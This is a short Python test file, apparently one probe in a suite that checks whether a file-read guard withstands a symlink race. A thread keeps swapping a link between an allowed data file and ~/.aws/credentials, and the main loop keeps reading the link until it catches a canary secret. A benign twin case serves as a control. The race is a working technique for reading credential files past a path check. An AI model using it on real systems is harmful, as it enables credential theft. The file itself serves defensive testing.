"""P25: swaps a link between the check and the open, ten thousand times"""
from kit import *


def raced(w):
    import threading

    good, bad, link = str(w.work / "data.csv"), str(w.home / ".aws/credentials"), str(w.work / "race")
    stop = threading.Event()

    def swap():
        turn = 0
        while not stop.is_set():
            turn += 1
            os.symlink(bad if turn % 2 else good, link + ".new")
            os.replace(link + ".new", link)

    os.symlink(good, link)
    thread = threading.Thread(target=swap)
    thread.start()
    refused = None
    try:
        for _ in range(10_000):
            try:
                data = read(link)
            except PermissionError as why:
                refused = why
                continue
            if b"KWSECRET" in data:
                return data
    finally:
        stop.set()
        thread.join()
    raise refused or NotHere("the race was never lost nor won")


def attack(w):
    yield "swap and open", lambda: raced(w)


def twin(w):
    yield "replace a link and read it", lambda: ordinary(w)


def ordinary(w):
    for _ in range(20):
        os.symlink("data.csv", w.work / "l.new")
        os.replace(w.work / "l.new", w.work / "l")
    return read(w.work / "l")
